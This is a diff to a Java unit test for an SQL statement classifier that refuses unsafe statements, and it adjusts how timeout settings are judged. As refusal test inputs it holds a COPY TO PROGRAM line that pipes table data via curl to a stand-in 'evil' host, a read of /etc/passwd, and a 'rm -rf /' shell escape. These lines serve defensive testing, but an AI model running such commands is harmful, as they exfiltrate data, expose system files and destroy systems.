@@ -89,12 +89,19 @@ class StatementClassifierTest {
         assertThat(one("SET ROLE postgres;").refusal()).contains("role");
         assertThat(one("SET SESSION AUTHORIZATION postgres;").refusal()).isNotNull();
         assertThat(one("RESET ROLE;").refusal()).isNotNull();
-        assertThat(one("SET lock_timeout = 0;").refusal()).contains("timeouts come from the policy");
-        assertThat(one("SET LOCAL statement_timeout = 0;").refusal()).isNotNull();
+        assertThat(one("SET \"session_replication_role\" = replica;").refusal()).contains("session_replication_role");
+        assertThat(one("SET standard_conforming_strings = off;").refusal()).isNotNull();
         assertThat(one("COPY orders TO PROGRAM 'curl -d @- http://evil';").refusal()).contains("program");
         assertThat(one("COPY orders FROM '/etc/passwd';").refusal()).contains("server file");
         assertThat(one("\\! rm -rf /\n").refusal()).contains("psql meta-command");
         assertThat(one("SET search_path = app, public;").refusal()).isNull();
+    }
+
+    @Test
+    void aTimeoutIsNotJudgedByItsWordsButByTheValueItLeaves() {
+        // what lint recommends (SET lock_timeout) must be appliable; the apply refuses a lifted or raised timeout by effect
+        assertThat(one("SET lock_timeout = '2s';").refusal()).isNull();
+        assertThat(one("SET LOCAL statement_timeout = 0;").refusal()).isNull();
     }
 
     @Test
